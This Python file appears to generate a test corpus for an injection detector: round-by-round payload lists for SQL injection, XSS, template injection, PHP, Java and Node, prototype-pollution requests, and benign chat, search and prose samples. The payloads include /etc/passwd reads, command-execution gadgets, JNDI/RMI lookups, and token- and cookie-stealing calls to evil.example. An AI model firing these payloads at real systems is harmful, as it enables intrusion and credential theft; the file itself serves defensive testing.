# obfuscated JavaScript, legacy-browser XSS vectors, Java/PHP file and time probes, rarer template engines.
SQLI_4 = [
    "1' or 1#",
    "' or '' = '",
    "3' or '1'='1",
    "1 or 1 like 1",
    "' or 1 in (select @@version)-- ",
    "admin' or 1=1 limit 1#",
    "\" or 1=1 or \"\"=\"",
    "'||UTL_HTTP.REQUEST('http://x.example')||'",
    "x' and 1=0 union all select 1,2,3--",
    "1 aNd 1 lIkE 1",
    "';/**/select/**/1;--",
    "%' or '1'='1",
    "admin'or'1'='1",
    "' or 1 --'",
    "1' GROUP BY 1,2,3--+",
    "1' ORDER BY 1--+",
    "' having 1=1--",
    "1 and '1' = '1'",
    "admin\"--",
    "1 or 1=1 -- -",
]

XSS_4 = [
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "window[\"al\"+\"ert\"](1)",
    "top[/al/.source+/ert/.source](1)",
    "<import implementation=\"#default#time2\">",
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<div datasrc=#x datafld=y dataformatas=html>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<applet code=x.class>",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"x=y\">",
    "<div style=\"-moz-binding:url(http://evil.example/x.xml#xss)\">",
    "' style='x:expression(alert(1))",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+\">",
    "<script>alert(1)<!--",
    "onerror=alert;throw 1",
    "javascript:alert`1`",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "<img src=x onerror=\"javascript:alert(1)\"",
]

SSTI_4 = [
    "{{'%c'%65}}",
    "{{=7*7}}",
    "[% 7*7 %]",
    "[% USE dir = Directory('/etc') %]",
    "{7*7}",
    "{$x=7*7}",
    "{@math key=\"1\" method=\"add\" operand=\"2\"/}",
    "<?= 7*7 ?>",
    "{{request.args.x}}",
    "{% include '/etc/passwd' %}",
    "{{ lookup . \"constructor\" }}",
    "{{#each this}}{{@key}}{{/each}}",
]

PHP_4 = [
    "phpinfo()",
    "system\t('id')",
    "file_get_contents('/etc/passwd')",
    "fopen('/etc/passwd','r')",
    "scandir('/')",
    "$_SESSION['admin']=1",
    "var_dump(scandir('.'))",
    "ini_get_all()",
    "simplexml_load_string($_POST['x'])",
    "exec('id', $o); print_r($o);",
    "opendir('/var/www')",
    "readfile('../../config.php')",
]

JAVA_4 = [
    "rO0ABXQABGhlbGxv",
    "java.io.ObjectInputStream",
    "java.net.URLClassLoader",
    "sun.misc.Unsafe",
    "${Runtime.getRuntime().exec('id')}",
    "%{#a=new java.lang.ProcessBuilder(new java.lang.String[]{'id'}).start()}",
    "java.util.Base64.getDecoder().decode('aWQ=')",
    "Thread.sleep(5000)",
    "new java.io.FileInputStream('/etc/passwd')",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get('/etc/passwd'))",
    "${T(java.nio.file.Files).readAllBytes(T(java.nio.file.Paths).get('/etc/passwd'))}",
    "org.apache.commons.io.FileUtils.readFileToString(new File('/etc/passwd'))",
]

NODE_4 = [
    "require('child_process').fork('x.js')",
    "child_process.execSync('id')",
    "require.cache",
    "module.exports = function(){ return process }",
    "Object.prototype.toString.call(process)",
    "new Worker('data:text/javascript,postMessage(1)')",
    "require('util').inspect(process)",
    "process.on('exit', () => require('fs').writeFileSync('/tmp/x', '1'))",
    "global.eval('1')",
    "vm.runInContext('this', vm.createContext({}))",
]

# Round five, written after round four's rules, measured before any change for it: quote probes,
# dialect file/UDF functions, JS escapes in sinks, template tags of other engines, XMLDecoder, module
# specifiers with prefixes or subpaths.
SQLI_5 = [
    "'='",
    "'or''='",
    "1 || 1=1",
    "1' || '1'='1",
    "1 and user() like 'root%'",
    "1 and mid(version(),1,1)=5",
    "1 and'1'='1",
    "1 and 0<>1",
    "select pg_read_file('/etc/passwd')",
    "1;select pg_ls_dir('.')",
    "1 and 1=dbms_utility.sqlid_to_sqlhash((select banner from v$version where rownum=1))",
    "'; select sys_eval('id')--",
    "1 and sqlite_version()>0",
    "' AND 1=CAST(@@VERSION AS INT)--",
    "1 and 1 = (select 1 from dual)",
]

XSS_5 = [
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "fetch('//evil.example',{method:'POST',body:localStorage.getItem('token')})",
    "setTimeout`alert\\x281\\x29`",
    "location=`javascript:alert\\x281\\x29`",
    "<a href=jav&#x0A;ascript:alert(1)>x</a>",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    "self['ev'+'al']('alert(1)')",
    "<form action=//evil.example/steal><input name=password type=password>",
    ("javascript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/"
     "--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
    "<h1 onclick=alert(1)>x</h1>",
    "document.write('<img src=//evil.example/?'+escape(document.cookie)+'>')",
]

SSTI_5 = [
    "{% assign x = 'id' | system %}",
    "{% do _self.env.registerUndefinedFilterCallback('system') %}",
    "{% autoescape false %}{{ payload }}{% endautoescape %}",
    "{% sandbox %}{% include 'x' %}{% endsandbox %}",
    "<tal:x tal:content=\"python:__import__('os').popen('id').read()\"/>",
    "#import os\n$os.system('id')",
    "${\"x\"?eval}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<#assign value=\"freemarker.template.utility.ObjectConstructor\"?new()>",
    "{{ _self.env.display('id') }}",
    "{% now \"jS F Y H:i\" %}{% debug %}",
    "${7*'7'}",
]

PHP_5 = [
    "[\"system\"][0](\"id\")",
    "$a=['system'];$a[0]('id');",
    "chmod('shell.php', 0777)",
    "symlink('/etc/passwd','x.txt')",
    "print_r(get_defined_vars())",
    "<?xml version=\"1.0\"?><?php system('id'); ?>",
    "shell_exec(base64_decode('aWQ='))",
    "touch('/var/www/html/x.php')",
    "$x = $_SERVER['HTTP_X_CMD']; `$x`;",
    "array_map($_GET['f'], [1])",
]

JAVA_5 = [
    "${event:Message}",
    "${jvmrunargs:x}",
    "${marker:x}",
    "<void method=\"start\"/>",
    "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">",
    "load('nashorn:mozilla_compat.js')",
    "Packages.java.lang.Runtime.getRuntime().exec('id')",
    "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "com.sun.jndi.ldap.LdapCtx",
    "java.lang.reflect.Array.newInstance",
    "rmi://attacker.example:1099/Exploit",
]

NODE_5 = [
    "(0,eval)('1')",
    "globalThis['ev'+'al']('1')",
    "import('node:fs').then(f=>f.readFileSync('/etc/passwd'))",
    "require('fs/promises').readFile('/etc/passwd')",
    "require('node:os').userInfo()",
    "eval(req.query.x)",
    "new (Function.prototype.constructor)('return process')()",
    "require(\"node:net\").connect(4444, \"10.0.0.9\")",
    "';return true;var x='",
    "{\"$where\":\"this.password.match(/.*/)\"}",
]

# Round six, attacks and benign written together after round five's rules, measured before any change for
# them: entity forms without semicolons, characters between a handler and "=", interpolation sigils of
# other engines, framework expression classes, more gadget classes, require() and iterator tricks.
SQLI_6 = [
    "1' and exists(select * from users)--",
    "' or 1=1 order by 1--",
    "1' and (select 'x' from users limit 1)='x",
    "admin' #",
    "1 or benchmark(10000000,sha1('x'))",
    "' or json_length('[1]')=1-- ",
    "1 and 'a'||'b'='ab'",
    "1 and hex(1)=31",
    "' or pg_sleep(5) is null--",
    "1' and '1' regexp '1",
    "-1' union all select 1,version(),3 -- ",
    "1 and (select 1)::int=1",
    "'; COPY users TO '/tmp/x'--",
    "1 and 1 in (select 1)",
]

XSS_6 = [
    "<svg><script xlink:href=data:,alert(1) />",
    ("<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#000011"
     "2&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041\">x</a>"),
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    ("<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\006"
     "3\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">"),
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    ("<svg><animate attributeName=href dur=5s repeatCount=indefinite keytimes=0;0;1 values=\"htt"
     "ps://x;javascript:alert(1);0\" />"),
    "<marquee loop=1 width=0 onfinish=alert(1)>",
    "<img src=\"x\" alt=\"\"onerror=\"alert(1)\">",
]

SSTI_6 = [
    "#{`id`}",
    "!{7*7}",
    "$!{7*7}",
    "[=7*7]",
    "[=\"freemarker.template.utility.Execute\"?new()(\"id\")]",
    "{math equation=\"7*7\"}",
    "{{ call .Exec \"id\" }}",
    "{{ self._TemplateReference__context }}",
    "{{ url_for.__globals__.os.environ }}",
    "{{ request.cookies }}",
]

PHP_6 = [
    "header_register_callback('phpinfo')",
    "new DirectoryIterator('glob:///*')",
    "new FilesystemIterator('/var/www')",
    "spl_autoload_register(function($c){include '/tmp/'.$c;})",
    "echo `id`;",
    "$a='assert';$a($_POST[x]);",
    "set_include_path('/tmp'); include 'x.php';",
]

JAVA_6 = [
    "new java.util.Scanner(new java.net.URL('http://x.example').openStream()).next()",
    "org.springframework.expression.spel.standard.SpelExpressionParser",
    "ognl.Ognl.getValue('1', null)",
    "com.opensymphony.xwork2.ActionContext.getContext()",
    "sun.reflect.annotation.AnnotationInvocationHandler",
    "com.sun.syndication.feed.impl.ObjectBean",
    "clojure.core$comp",
    "org.mozilla.javascript.NativeError",
    "org.jboss.interceptor.proxy.InterceptorMethodHandler",
    "org.python.core.PyFunction",
]

NODE_6 = [
    "{\"escapeFunction\":\"1;return process\"}",
    "require('inspector').open(9229,'0.0.0.0')",
    "new (require('worker_threads').Worker)('x', {eval: true})",
    "require('v8').setFlagsFromString('--allow-natives-syntax')",
    "{\"__proto__\":{\"sourceURL\":\"\\u000areturn process.mainModule.require('child_process').execSync('id')//\"}}",
    "require(process.env.X)",
    "Array.prototype.includes = () => true",
]

BENIGN_6 = [
    "Liquid: {{ product.title | upcase }} on the product page",
    "Pug uses #{name} for interpolation and !{html} for raw output",
    "Velocity: $!{user.name} prints nothing when the name is null",
    "FreeMarker's [=user.name] is the square bracket interpolation syntax",
    "Spring's SpelExpressionParser is powerful, keep user input out of it",
    "we moved from sun.reflect to java.lang.invoke in the serializer",
    "require('../config') loads the shared settings",
    "fetch(`https://api.example.com/v1/users/${id}`) returns 404 for deleted users",
    "the DirectoryIterator class is the easiest way to list files in PHP",
    "1 and 1 makes 2 :)",
    "hex(1) is 31 in MySQL, funny",
    "the select box doesn't open on iOS",
    "my <audio> player doesn't autoplay on Safari",
    "xlink:href is deprecated in SVG 2, use href",
    "clojure.core is the namespace with map and reduce",
]

# Round seven, attacks and benign written together after round six's rules, measured before any change for
# them: JDBC URL attacks, SpEL context objects, Razor static classes, ERB secrets, PHP sockets and process
# control, sandbox escapes through stack traces.
SQLI_7 = [
    "1 and sys.fn_sqlvarbasetostr(@@version)",
    "1 and 1 = cast(current_database() as int)",
    "x' union select load_file(0x2f6574632f706173737764)#",
    "1' and 1=convert(int,(select top 1 name from sysobjects))--",
    "x' or substring(user(),1,1)='r",
]

XSS_7 = [
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<portal src=//evil.example/>",
    "<svg/onload=location='javas'+'cript:ale'+'rt(1)'>",
    "<img src=x onerror=top[8680439..toString(30)](1)>",
    "<input type=hidden accesskey=X onclick=alert(1)>",
]

SSTI_7 = [
    "<%= ENV %>",
    "<%= Rails.application.secrets %>",
    "@Environment.GetEnvironmentVariable(\"PATH\")",
    "@File.ReadAllText(\"web.config\")",
    "{{ get_flashed_messages }}",
    "#evaluate('#set($x=1)')",
    "<#include \"/etc/passwd\">",
    "{{ ''.__doc__ }}",
]

PHP_7 = [
    "apache_setenv('x','y')",
    "pcntl_fork()",
    "stream_socket_client('tcp://10.0.0.9:4444')",
    "socket_create(AF_INET, SOCK_STREAM, SOL_TCP)",
    "parse_ini_file('/etc/php.ini')",
    "file('http://evil.example/x')",
    "$x=~'%8C%86%8C%8B%9A%92';$x('id');",
]

JAVA_7 = [
    "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://x.example/x.sql'",
    ("jdbc:mysql://x.example:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.in"
     "terceptors.ServerStatusDiffInterceptor"),
    "org.apache.commons.configuration.JNDIConfiguration",
    "org.apache.log4j.receivers.db.JNDIConnectionSource",
    "com.caucho.naming.QName",
    "${session.getAttribute('user')}",
    "#{application.getRealPath('/')}",
    "#{systemProperties['user.home']}",
    "#{environment.getProperty('spring.datasource.password')}",
    "${@environment.getProperty('spring.datasource.password')}",
]

NODE_7 = [
    "Error.prepareStackTrace = (e, frames) => frames[0].getThis()",
    "serialize.unserialize(req.cookies.profile)",
    "Object.getOwnPropertyNames(global)",
    "require('module').createRequire('/')('child_process')",
    "(async()=>{})().constructor.constructor('return process')()",
]

BENIGN_7 = [
    "the H2 console uses jdbc:h2:mem:testdb by default",
    "set autoDeserialize only in the legacy reporting job",
    "ERB: <%= link_to 'Home', root_path %> in the layout",
    "@Environment variables are documented in the ops wiki",
    "the session.getAttribute call returns null after logout",
    "file('notes.txt') in PHP returns an array of lines",
    "our socket_create wrapper retries three times",
    "Error.prepareStackTrace is how source-map-support hooks stack traces",
    "Spring's systemProperties bean is handy in @Value expressions",
]

# Round eight, attacks and benign written together after round seven's rules, measured before any change
# for them: Commons Text lookups, JMX/Jolokia, BeanShell, template filter tags, Mako declarations,
# callbacks and string transforms in PHP, Deno/Bun file APIs, data: imports.
SQLI_8 = [
    "1 and (select top 1 name from master..syslogins)>0",
    "1' and (select count(*) from information_schema.schemata)>0 and '1'='1",
    "1 procedure analyse()",
]

XSS_8 = [
    "<svg><foreignobject><iframe src=javascript:alert(1)>",
    "<x oncut=alert(1)>cut me",
    "<body onbeforeprint=alert(1)>",
]

SSTI_8 = [
    "{% filter system %}id{% endfilter %}",
    "{% apply system %}id{% end %}",
    "{{ `id` }}",
    "<%! import os %>${os.popen('id').read()}",
    "{{ _context|json_encode }}",
    "{{ request.application.__self__._get_data_for_json.__globals__['json'] }}",
]

PHP_8 = [
    "preg_replace_callback('/.*/', 'system', 'id')",
    "mb_ereg_replace_callback('.*', 'passthru', 'id')",
    "array_udiff([1], [2], 'system')",
    "str_replace('x','','sxystem')('id')",
    "substr('xsystem',1)('id')",
    "sprintf('%s%s','sys','tem')('id')",
]

JAVA_8 = [
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${url:UTF-8:http://x.example/}",
    "${file:UTF-8:/etc/passwd}",
    "${dns:address|x.example}",
    ("/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfi"
     "gurator/reloadByURL/http:!/!/x.example/l.xml"),
    "service:jmx:rmi:///jndi/rmi://x.example:1099/jmxrmi",
    "bsh.XThis",
    "[\"org.apache.commons.dbcp.BasicDataSource\",{\"driverClassName\":\"x\"}]",
]

NODE_8 = [
    "import('data:text/javascript,console.log(process.env)')",
    "Deno.readTextFile('/etc/passwd')",
    "Deno.env.get('AWS_SECRET_ACCESS_KEY')",
    "Bun.file('/etc/passwd').text()",
    "Bun.$`id`",
    "process.nextTick(() => require('child_process').exec('id'))",
]

BENIGN_8 = [
    "use ${file:-default.txt} in the bash script",
    "bash substring: ${url:0:8} gives the scheme",
    "Jinja: {% filter upper %}hello{% endfilter %}",
    "Mako's <%! %> blocks run at module level, avoid them",
    "preg_replace_callback is cleaner than the old /e modifier",
    "Deno.readTextFile is async, use the Sync variant in scripts",
    "Bun.file is faster than fs for static assets",
    "str_replace('a', 'b', $s) is all you need here",
    "the jolokia endpoint is disabled in prod",
    "{{ `template literal` }} isn't valid in Vue 2 templates",
]

# Round nine, attacks and benign written together after round eight's rules, measured before any change
# for them: method handles, java.beans and JShell/compiler APIs, Eta raw tags, superglobals in braces,
# callbacks named by concatenation, Node module-loader hooks.
SSTI_9 = [
    "<%~ it.constructor.constructor('return process')() %>",
    "<%~ 7*7 %>",
    "{0.__class__.__mro__}",
    "{% get_admin_log 10 as log for_user 1 %}",
]

PHP_9 = [
    "${_GET}[0](${_GET}[1])",
    "array_map('sys'.'tem', ['id'])",
    "usort($a, 'pass'.'thru')",
]

JAVA_9 = [
    "java.lang.invoke.MethodHandles.lookup().findVirtual(x, y, z)",
    "MethodHandles.lookup().findStatic(Runtime.class, \"getRuntime\", t)",
    "java.beans.Expression",
    "java.beans.EventHandler",
    "jdk.jshell.JShell.create().eval(\"1\")",
    "javax.tools.ToolProvider.getSystemJavaCompiler()",
]

NODE_9 = [
    "require.extensions['.txt'] = require.extensions['.js']",
    "module._compile('process.exit()', 'x.js')",
    "new vm.SourceTextModule('export default 1')",
    "process.report.writeReport()",
]

BENIGN_9 = [
    "MethodHandles replaced most of our reflection code",
    "JShell is great for quick experiments",
    "we use javax.tools in the IDE plugin",
    "Eta templates use <%= it.name %> for escaped output",
    "array_map('trim', $lines) cleans the input",
    "require.extensions is deprecated in Node",
    "the vm.SourceTextModule API is still experimental",
    "Python's str.format uses {0} and {name} placeholders",
]

# Prototype pollution through query keys and JSON documents (whole-request placements).
POLLUTION_QUERIES = [
    "__proto__[admin]=1",
    "__proto__.isAdmin=true",
    "constructor[prototype][role]=admin",
    "a[__proto__][b]=c",
    "user[constructor][prototype][x]=1",
    "%5F%5Fproto%5F%5F%5Btoken%5D=1",
    "constructor.prototype.shell=node",
    "q=1&__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x",
]
POLLUTION_JSON: list[Any] = [
    {"__proto__": {"isAdmin": True}},
    {"user": {"__proto__": {"role": "admin"}}},
    {"constructor": {"prototype": {"polluted": "yes"}}},
    {"settings": {"constructor": {"prototype": {"shell": "/proc/self/exe",
                                                "NODE_OPTIONS": "--require /proc/self/environ"}}}},
    {"name": "x",
     "__proto__": {"outputFunctionName": "a;process.mainModule.require('child_process').execSync('id');//"}},
    [{"__proto__": {"toString": 1}}],
]

ROUND_LISTS = {2: (SQLI_2, XSS_2, SSTI_2, PHP_2, JAVA_2, NODE_2), 3: (SQLI_3, XSS_3, SSTI_3, PHP_3, JAVA_3, NODE_3),
               4: (SQLI_4, XSS_4, SSTI_4, PHP_4, JAVA_4, NODE_4), 5: (SQLI_5, XSS_5, SSTI_5, PHP_5, JAVA_5, NODE_5),
               6: (SQLI_6, XSS_6, SSTI_6, PHP_6, JAVA_6, NODE_6), 7: (SQLI_7, XSS_7, SSTI_7, PHP_7, JAVA_7, NODE_7),
               8: (SQLI_8, XSS_8, SSTI_8, PHP_8, JAVA_8, NODE_8), 9: ([], [], SSTI_9, PHP_9, JAVA_9, NODE_9)}
FAMILIES = {family: first + [p for lists in ROUND_LISTS.values() for p in lists[k]]
            for k, (family, first) in enumerate((("sqli", SQLI), ("xss", XSS), ("ssti", SSTI), ("php", PHP),
                                                 ("java", JAVA), ("nodejs", NODE)))}
ROUNDS = {p: r for r, lists in ROUND_LISTS.items() for lst in lists for p in lst}
PARAMS = ["q", "id", "sort", "name", "comment", "template", "filter", "data", "message", "order"]


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for family, payloads in FAMILIES.items():
        for i, p in enumerate(payloads):
            for place, name in three_places(i, PARAMS):
                n += 1
                # a header value cannot carry a carriage return (the line break _place turns to a space)
                value = p.replace("\r", " ") if place == "header" else p
                yield {**_place(place, name, value), "id": f"mix-{family}-{n:04d}",
                       "category": family, "sub": f"{family}/r{ROUNDS.get(p, 1)}", "placement": place,
                       "payload": p}
    for i, qs in enumerate(POLLUTION_QUERIES):
        for k, path in enumerate(("/api/users?", "/api/users?page=2&")):
            yield {**_get(path + qs), "id": f"mix-nodejs-pq{i}-{k}", "category": "nodejs", "sub": "pollution",
                   "placement": "query", "payload": qs}
    for i, doc in enumerate(POLLUTION_JSON):
        for k, uri in enumerate(("/api/users", "/api/users/42")):
            yield {**_json(uri, doc), "id": f"mix-nodejs-pj{i}-{k}", "category": "nodejs", "sub": "pollution",
                   "placement": "json", "payload": json.dumps(doc)}


# Benign: people talking about the same things, in chat, bios, searches and public links.
SLACK_TEXTS = [
    "select a plan from the list and click continue",
    "I <3 this new dashboard, thanks team!",
    "use ${HOME} in the script instead of hardcoding /home/ann",
    "Java's Runtime class is what we use for the health check, don't touch it",
    "Tim O'Reilly's talk was great; order by Friday if you want the book",
    "1=1 meeting moved to 3pm, room 'Orion'",
    "can someone drop the table of contents from the wiki page? it's outdated",
    "the union of both lists should be deduplicated before we insert into the CRM",
    "delete from my calendar anything after 6pm please :)",
    "Our SLA: 99.9% uptime, <5 min response; see the 'Support' tab",
    "use {{ user.name }} in the email template, not {{user.first_name}}",
    "the Jinja template has a {% for item in items %} loop that's slow",
    "in ERB you write <%= @user.name %> and it escapes by default",
    "JNDI is deprecated in our stack, we moved to env vars",
    "log4j 2.17.1 is what we ship, CVE fixed",
    "process.env.PORT defaults to 3000 in dev",
    "run npm install && npm test before pushing",
    "the child process exits with code 1 when the config is missing",
    "Node's require() cache bit us again in the tests",
    "PHP's echo vs print debate again lol",
    "the script tag in the footer loads analytics, consent first",
    "onload of the page we fetch /api/me",
    "alert: disk usage above 90% on db-2",
    "I wrote <b>bold</b> in the bio and it shows literally, expected?",
    "prototype for the new onboarding is in Figma",
    "the constructor takes a config object; see the README",
    "sleep(5) in the test is flaky, use a fake clock",
    "We're hiring a Java/Spring developer (Spring Boot, Thymeleaf, JPA)",
    "Mention @here if the build breaks; Thanks!",
    "Where's the 'Sales & Marketing' folder? I can't find it",
    "version 2.1 -- released today; changelog in the drive",
    "if (a > b && c < d) return; // from the code review",
    "cost = price * 7 * 7 / 100 (don't ask)",
    "exec summary: Q3 revenue up 12%",
    "the system is down for maintenance between 2 and 4 am",
    "Hey! Are we still on for lunch? I'm thinking tacos 🌮",
    # round two
    "process.env is empty inside the container, check the compose file",
    "Deno and Bun both start faster than node for small scripts",
    "restaurant price range: $$ (moderate), reviews 4.5/5",
    "the spawn point in level 3 is broken; players fall through the map",
    "@John (design) thoughts on the new logo?",
    "our Grafana shows sleep time per request; benchmark numbers in the doc",
    "Freemarker's ?html built-in is deprecated, use auto-escaping",
    "the {{name}} placeholder isn't replaced in the welcome mail",
    "1 or 2 people from each team, between 3 and 4 pm",
    "WAITFOR the release notes before announcing, please",
    # round three
    "if (now() > deadline) we ship anyway",
    "show tables at the event: 12, ask Maria",
    "Scheduling: Mon-Wed 9-5, Thu off; lunch @ 12",
    "the \\system folder on the share is read-only",
    "process: 1) apply 2) interview 3) offer",
    "copy the config from staging, then restart",
    # after round three's rules: developers writing the code those rules read
    "in T-SQL use CHAR(13)+CHAR(10) for a line break in the report",
    "=IF(A2>100,\"high\",\"low\") in column C please",
    "mysql> show tables; -- lists 42 tables on staging",
    "we log JSON.stringify(process.env) only in dev, never in prod",
    "res.send(req.user) leaks the password hash, fix in PR 381",
    "process.stdout.write is faster than console.log for big dumps",
    "rename('cache.tmp', 'cache.json') is atomic on the same disk",
    "in Django settings.SECRET_KEY must come from the environment",
    "Groovy: ''.class is java.lang.String, handy in the console",
    "Jackson's @class property is off by default, keep it that way",
    "${param} and ${header} are JSP EL implicit objects, see the spec",
    "the hikari pool logs com.zaxxer.hikari.HikariDataSource on start",
    "spawn a worker per core with cluster.fork()",
    "we deprecated getallheaders() usage in the PHP SDK",
    "Object.keys(process.env).length is 87 on the CI runner",
    # after round four's rules
    "java.util.Base64 is the standard encoder since Java 8",
    "java.nio.file.Files.walk is much nicer than the old File API",
    "Thread.sleep(1000) in the test is flaky, use Awaitility",
    "the TT2 header uses [% INCLUDE header.tt %] and a footer",
    "the budget is {7 * 7} hours?? no, 49 hours",
    "clear require.cache between tests when you mock modules",
    "the whole (process) took 3 weeks, sorry for the delay",
    # after round five's rules
    "fetch('/api/me', {headers: {Authorization: localStorage.token}}) is how the SPA calls us",
    "<form action=\"https://example.us1.list-manage.com/subscribe/post\" method=\"post\"> for the newsletter",
    "in Django use {% url 'home' %} and {% static 'css/app.css' %}, never hardcode paths",
    "{% if items|length > 0 %} works, {% if items %} is shorter",
    "the Mongo docs say avoid $where, it runs JavaScript",
]

SEARCHES = [
    "select", "union station", "O'Reilly", "drop shipping", "rock & roll", "java script tutorial",
    "mysql vs postgres", "how to sleep better", "C# or Java?", "<3", "shirt size: M/L", "1=1",
    "order by price", "template literals in js", "what is ${} in bash", "print statements",
    "Smith & Wesson", "null pointer exception", "'quoted' word", "a-b testing",
]

PUBLIC_URLS = [
    "https://docs.python.org/3/library/string.html#template-strings",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://nodejs.org/api/child_process.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://www.php.net/manual/en/function.include.php",
    "https://github.com/search?q=select+from+where&type=code",
    "https://example.com/shop?sort=price&order=asc",
]

PROSE = [
    "Please select one of the options below and submit the form.",
    "The union representatives will meet the board on Tuesday.",
    "Drop me a line when the order is delivered.",
    "Wait for the delay to pass, then insert the card.",
    "She said 'hello' and left; the door was open.",
    "I'd like to update my profile: new address is 12 Main St., Apt 4.",
    "The script of the play was rewritten by the director.",
    "Java and Python are both object-oriented languages.",
    "Our template for the newsletter uses the company colours.",
    "Please contact support if the system doesn't respond within 5 minutes.",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS + BENIGN_6 + BENIGN_7 + BENIGN_8 + BENIGN_9, "mixben")
    n = yield from numbered((_get(_query("/api/users", [("q", text), ("page", "1")])) for text in SEARCHES),
                            "mixben-search", n, "query")
    yield from links_and_prose(PUBLIC_URLS, PROSE, "mixben", n)


if __name__ == "__main__":
    print_records(attacks(), benign())
